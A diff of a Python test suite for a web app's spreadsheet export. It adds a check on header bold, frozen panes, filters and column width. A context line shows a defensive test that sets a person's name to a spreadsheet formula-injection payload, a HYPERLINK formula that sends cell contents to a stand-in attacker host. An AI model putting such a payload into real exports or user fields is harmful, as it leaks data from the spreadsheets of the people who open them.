@@ -107,6 +107,19 @@ def test_exported_days_are_dates_a_spreadsheet_sorts_and_the_arabic_workbook_rea
     assert cells["مُقدَّم"].date() == submitted  # a date cell, not words
 
 
+def test_the_xlsx_export_opens_ready_to_read_a_bold_header_kept_in_view_a_filter_on_each_column(factory, signed_in):
+    for number in range(3):
+        factory.case(title=f"Visitor paths at site {number}")
+    sheet = openpyxl.load_workbook(io.BytesIO(signed_in(factory.manager()).get("/cases/export.xlsx").data)).active
+
+    header = [cell.value for cell in sheet[1]]
+    assert all(cell.font.bold for cell in sheet[1]) and not any(cell.font.bold for cell in sheet[2])
+    assert sheet.freeze_panes == "A2"
+    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}4"  # the header and 3 rows
+    title = openpyxl.utils.get_column_letter(header.index("Title") + 1)
+    assert sheet.column_dimensions[title].width >= 40  # a title is read whole, not cut at 13 characters
+
+
 def test_the_overview_s_figures_hold_no_formula_from_a_person_s_name(factory, signed_in):
     sly = factory.expert(name='=HYPERLINK("http://evil.example/?"&A2,"Open")')
     factory.assign_lead(factory.case(), sly)
